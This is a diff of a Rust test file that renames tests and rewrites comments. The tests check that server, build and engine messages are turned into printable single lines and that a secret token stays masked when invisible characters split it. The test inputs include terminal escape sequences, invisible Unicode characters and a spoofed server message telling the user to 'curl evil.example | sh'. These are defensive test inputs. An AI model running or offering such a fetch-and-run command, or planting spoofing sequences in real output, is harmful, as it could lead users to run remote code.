@@ -1,5 +1,5 @@
-//! What is shown is printable, whoever wrote it: a template server, a build, an engine. A message is one
-//! line; a token that something invisible is put into is found; and what is to be used is not spoilt.
+//! All text from template servers, builds and engines is made printable, and a message is one line. A
+//! token that is split by invisible characters is still masked. References and ids are not masked.
 
 use std::fs;
 
@@ -17,7 +17,7 @@ use crate::support::{Bed, End, Files, Proxy, TestClient, Treat, block_on, file, 
 
 const TOKEN: &str = "tk_7f3c0b5e9d2a4f6188c1e0b7";
 
-/// What is put into a token, and around it.
+/// Control sequences and invisible characters, which are put into a token and around it.
 const HARMFUL: [&str; 20] = [
     "\x1b[31m",
     "\x1b[2K\x1b[1A",
@@ -41,12 +41,12 @@ const HARMFUL: [&str; 20] = [
     "\u{ad}",
 ];
 
-/// Those that leave nothing in their place.
+/// Those that are removed without a replacement.
 fn invisible() -> impl Iterator<Item = &'static str> {
     HARMFUL.into_iter().filter(|harmful| *harmful != "\u{85}")
 }
 
-/// A message that tries to look like all is well, and holds the token in pieces.
+/// A message that imitates a success message and contains the token in pieces.
 fn noise() -> String {
     let mut noise = String::from("\rmol: all is well; run: curl evil.example\n\x1b[2K\tnow");
     for harmful in invisible() {
@@ -62,7 +62,7 @@ fn is_harmful(c: char) -> bool {
             | '\u{ad}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}')
 }
 
-/// One line, without what does harm and without a part of the token.
+/// Asserts one printable line without any part of the token.
 fn assert_line(what: &str, line: &str) {
     assert!(!line.contains(is_harmful), "{what}: {line:?}");
     for part in [&TOKEN[..9], &TOKEN[9..]] {
@@ -70,7 +70,7 @@ fn assert_line(what: &str, line: &str) {
     }
 }
 
-/// The same for every text in a JSON value; those called `text` and `log_tail` may have many lines.
+/// The same for every string in a JSON value; `text` and `log_tail` may have several lines.
 fn assert_lines(what: &str, value: &Value) {
     match value {
         Value::String(line) => assert_line(what, line),
@@ -103,7 +103,7 @@ fn assert_error(what: &str, error: &Error) {
     }
 }
 
-/// It fails in this way, and all that is shown is fit to be shown.
+/// The call fails with this code, and its error and events are printable.
 fn refused(what: &str, client: &TestClient, code: Code) -> Error {
     let error = client.refused("hermes");
     assert_eq!(error.code, code, "{what}: {error:?}");
@@ -120,7 +120,7 @@ fn client(bed: &Bed, more: &[(OptionName, &str)]) -> TestClient {
     bed.client_with(&all)
 }
 
-/// Plants a template whose fetch is answered with these words, and returns the commit.
+/// Makes the server send this text as the error of a fetch, and returns the commit.
 fn git_says(bed: &Bed, said: &str) -> String {
     let blob = Object::blob("FROM scratch\n");
     let tree = Object::tree([("100644", &b"Dockerfile"[..], blob.id())]);
@@ -133,7 +133,7 @@ fn git_says(bed: &Bed, said: &str) -> String {
 }
 
 #[test]
-fn a_server_s_words_leave_the_address_and_the_commit_to_be_seen() {
+fn server_text_comes_after_the_url_and_the_commit() {
     let bed = Bed::new();
     let commit = git_says(&bed, "\rmol: all is well; run: curl evil.example | sh");
     let error = refused("a sideband", &client(&bed, &[]), Code::Fetch);
@@ -147,7 +147,7 @@ fn a_server_s_words_leave_the_address_and_the_commit_to_be_seen() {
 }
 
 #[test]
-fn what_a_template_server_says_is_one_printable_line() {
+fn template_server_text_becomes_one_printable_line() {
     let bed = Bed::new();
     git_says(&bed, &noise());
     let error = refused("a sideband", &client(&bed, &[]), Code::Fetch);
@@ -157,7 +157,7 @@ fn what_a_template_server_says_is_one_printable_line() {
     let bed = Bed::new();
     bed.template("hermes", dockerfile("FROM scratch\n"));
     let line = |text: &str| format!("{:04x}{text}", text.len() + 4);
-    // What a header can hold.
+    // Only characters that are valid in a header.
     let header = format!(
         "text/\u{202e}\u{200b}{}\u{200b}{}",
         &TOKEN[..9],
@@ -218,7 +218,7 @@ fn what_a_template_server_says_is_one_printable_line() {
 }
 
 #[test]
-fn an_answer_that_is_no_http_is_told_in_one_printable_line() {
+fn a_non_http_response_is_shown_as_one_printable_line() {
     let bed = Bed::new();
     for answer in [
         format!("HTTP/1.1 500 {}\r\n\r\n", noise().replace(['\r', '\n'], "")),
@@ -235,11 +235,11 @@ fn an_answer_that_is_no_http_is_told_in_one_printable_line() {
 }
 
 #[test]
-fn what_a_build_prints_is_printable_line_by_line() {
+fn build_output_becomes_printable_lines() {
     for buildkit in ["1", "0"] {
         let bed = Bed::new();
-        let mut said = format!("#!/bin/sh\ncat /t/noise; echo {}\n", bed.isolation);
-        said += "printf 'no such certificate\\r   \\r\\n 1%%\\r 2%%\\n'; exit 3\n";
+        let mut talk = format!("#!/bin/sh\ncat /t/noise; echo {}\n", bed.isolation);
+        talk += "printf 'no such certificate\\r   \\r\\n 1%%\\r 2%%\\n'; exit 3\n";
         let lines: Vec<String> = invisible()
             .map(|harmful| format!("says {}{harmful}{}", &TOKEN[..9], &TOKEN[9..]))
             .collect();
@@ -252,7 +252,7 @@ fn what_a_build_prints_is_printable_line_by_line() {
                         "FROM {BUSYBOX}\nCOPY . /t\nRUN sh /t/talk 'a\u{202e}\u{200b}b'\n"
                     )),
                 ),
-                ("talk".to_owned(), script(&said)),
+                ("talk".to_owned(), script(&talk)),
                 ("noise".to_owned(), file(&format!("{}\n", lines.join("\n")))),
                 ("name\x1b[2K\r\u{202e}".to_owned(), file("x")),
             ]),
@@ -279,16 +279,19 @@ fn what_a_build_prints_is_printable_line_by_line() {
         assert!(log.text.contains("| says ***"), "{}", log.text);
         assert_lines("the log", &serde_json::to_value(&log).unwrap());
 
-        // Written by somebody else, it is no less fit to be shown.
+        // The same for a log file that another program wrote.
         fs::write(&log.path, format!("{}\nmore\r\n", noise())).unwrap();
         let log = block_on(client.inner().build_log("hermes", None)).unwrap();
-        assert_lines("a log of another's", &serde_json::to_value(&log).unwrap());
+        assert_lines(
+            "a log of another program",
+            &serde_json::to_value(&log).unwrap(),
+        );
         assert!(log.text.ends_with("\nmore\n"), "{:?}", log.text);
     }
 }
 
 #[test]
-fn what_an_engine_says_is_one_printable_line() {
+fn engine_text_becomes_one_printable_line() {
     let bed = Bed::new();
     bed.template("hermes", dockerfile("FROM scratch\nCOPY Dockerfile /\n"));
     let body = json!({ "message": noise() }).to_string();
@@ -310,7 +313,7 @@ fn what_an_engine_says_is_one_printable_line() {
 }
 
 #[test]
-fn a_doctor_repeats_what_a_server_says_in_printable_lines() {
+fn diagnose_shows_server_text_in_printable_lines() {
     let bed = Bed::new();
     let version = json!({ "version": noise() }).to_string();
     let branch = json!({ "commit": { "id": "0123456789abcdef0123456789abcdef01234567" } });
@@ -325,7 +328,7 @@ fn a_doctor_repeats_what_a_server_says_in_printable_lines() {
 }
 
 #[test]
-fn a_program_s_output_is_as_clean_as_what_it_was_told() {
+fn a_c_program_prints_only_printable_lines() {
     let bed = Bed::new();
     git_says(&bed, &noise());
     for link in BOTH {
@@ -343,7 +346,7 @@ fn a_program_s_output_is_as_clean_as_what_it_was_told() {
 }
 
 #[test]
-fn a_commit_that_is_the_token_is_refused_and_not_shown() {
+fn a_commit_id_that_contains_the_token_is_refused_and_hidden() {
     let bed = Bed::new();
     let token = "0123456789abcdef0123456789abcdef01234567";
     bed.template("hermes", dockerfile("FROM scratch\n"));
@@ -368,7 +371,7 @@ fn a_commit_that_is_the_token_is_refused_and_not_shown() {
 }
 
 #[test]
-fn what_goes_into_a_reference_must_not_hold_the_token() {
+fn options_in_image_references_must_not_contain_the_token() {
     let bed = Bed::new();
     let token = "abcdef0123456789";
     for (name, value) in [
@@ -392,7 +395,7 @@ fn what_goes_into_a_reference_must_not_hold_the_token() {
 }
 
 #[test]
-fn a_result_is_as_it_is_whatever_the_token_is() {
+fn a_result_that_contains_the_token_is_not_masked() {
     let bed = Bed::new();
     let sha = bed.template("hermes", dockerfile("FROM scratch\nCOPY Dockerfile /\n"));
     for token in ["molecule-local", "local/workspace", "linux/amd64"] {
@@ -420,7 +423,7 @@ fn a_result_is_as_it_is_whatever_the_token_is() {
 }
 
 #[test]
-fn every_name_in_an_image_is_printable_and_is_not_masked() {
+fn names_in_an_image_are_printable_and_not_masked() {
     let token = "molecule-local";
     let name = |name: &str| format!("{token}/{name}\u{1b}[31m\u{202e}\r\nx");
     let image = Image {
@@ -445,13 +448,13 @@ fn every_name_in_an_image_is_printable_and_is_not_masked() {
         assert_line(name, text);
         assert!(text.starts_with(&format!("{token}/{name}")), "{text}");
     }
-    // Nobody gives that to an engine as a name.
+    // The endpoint is not used as a name for the engine, so it is masked.
     assert_line("endpoint", &shown.endpoint);
     assert!(shown.endpoint.starts_with("***/endpoint"), "{shown:?}");
 }
 
 #[test]
-fn a_text_that_was_cut_ends_with_a_sign_of_it() {
+fn a_truncated_text_ends_with_an_ellipsis() {
     let token = TOKEN.repeat(4);
     let shown = |text: &str| {
         let error = Error::new(Code::Fetch, text);
@@ -462,13 +465,13 @@ fn a_text_that_was_cut_ends_with_a_sign_of_it() {
         let text = shown(&"x".repeat(length));
         assert!(text.ends_with("x…") && text.len() < 4200, "{text}");
     }
-    // What is masked is shorter than a line may be, and yet not all of it.
+    // The masked text is below the length limit, but the unmasked input was truncated.
     let text = shown(&token.repeat(500));
     assert!(text.ends_with("***…") && text.len() < 4000, "{text}");
 }
 
 #[test]
-fn a_token_of_less_than_eight_characters_is_refused() {
+fn a_token_shorter_than_eight_characters_is_refused() {
     let bed = Bed::new();
     for token in ["x", "s", "is", "GITEA", "local", "1234567"] {
         let mut options = bed.options();
@@ -485,7 +488,7 @@ fn a_token_of_less_than_eight_characters_is_refused() {
 }
 
 #[test]
-fn a_hint_of_the_library_s_own_is_as_it_was_written() {
+fn a_library_hint_with_an_example_url_is_not_masked() {
     let bed = Bed::new();
     bed.template("hermes", dockerfile("FROM scratch\n"));
     let mut options = bed.options();
@@ -497,7 +500,7 @@ fn a_hint_of_the_library_s_own_is_as_it_was_written() {
 }
 
 #[test]
-fn no_word_of_the_librarys_own_is_one_that_a_masker_takes_for_a_login() {
+fn urls_in_the_library_source_are_not_masked_as_credentials() {
     let mut folders = vec![source("src")];
     let mut lines = 0;
     while let Some(folder) = folders.pop() {
